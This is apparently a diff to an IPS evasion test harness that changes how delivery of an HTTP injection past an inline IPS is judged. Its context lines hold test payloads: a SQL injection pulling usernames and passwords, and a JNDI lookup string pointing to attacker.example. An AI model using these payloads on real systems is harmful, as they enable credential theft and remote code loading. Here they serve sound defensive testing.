@@ -47,6 +47,17 @@ HPING_OVERHEAD_US = 150
 # injection detector (docs/inject.md) both drop it when it is sent whole (checked first).
 INJECT = 'GET /evasion-%s?cat=1%%20UNION%%20SELECT%%20username,password%%20FROM%%20users HTTP/1.1\r\nHost: 10.0.0.20\r\n\r\n'
 INJECT_MARK = b'UNION%20SELECT'
+# An HTTP injection is delivered when the server received it in a complete request line: an
+# inline IPS decides on the segment that completes what its rule or detector needs (here the
+# request line: http.uri exists once the line ends) and drops that segment and the rest of the
+# connection; the bytes before it reach the host's TCP, but no HTTP server acts on a request line
+# that never ends (Suricata inline behaves the same: docs/evasion.md "The judge").
+REQUEST_LINE_END = b' HTTP/1.1\r\n'
+
+
+def request_line_delivered(got):
+    at = got.find(INJECT_MARK)
+    return at >= 0 and REQUEST_LINE_END in got[at:]
 BENIGN = 'GET /benign-%s?cat=1%%20UNIFORM%%20SHIRTS%%20for%%20staff,visitors%%20FROM%%20stock HTTP/1.1\r\nHost: 10.0.0.20\r\n\r\n'
 # UDP: rule 4002 ("${jndi:" anywhere, flow:to_server).
 UDP_INJECT = b'log line 0001 user=${jndi:ldap://attacker.example/a} end of record'
@@ -414,8 +425,11 @@ def run_tcp_plan(env, name, plan, attack, linger=1.0):
     sport = env.ports.next_crafted()
     l4cut = frag_cut(20 + payload.index('UNION' if attack else 'UNIFORM'), len(INJECT_MARK))
     r = env.sender.call(op='tcp', sport=sport, dport=HTTP_PORT, plan=plan, payload=payload, cut=cut, l4cut=l4cut, linger=linger)
-    got = env.judge.received('tcp', HTTP_PORT, sport, until=mark)
-    return mark in got, got, mark, r
+    if not attack:
+        got = env.judge.received('tcp', HTTP_PORT, sport, until=mark)
+        return mark in got, got, mark, r
+    got = env.judge.received('tcp', HTTP_PORT, sport, until=REQUEST_LINE_END)
+    return request_line_delivered(got), got, mark, r
 
 
 def run_udp_plan(env, name, plan, attack):
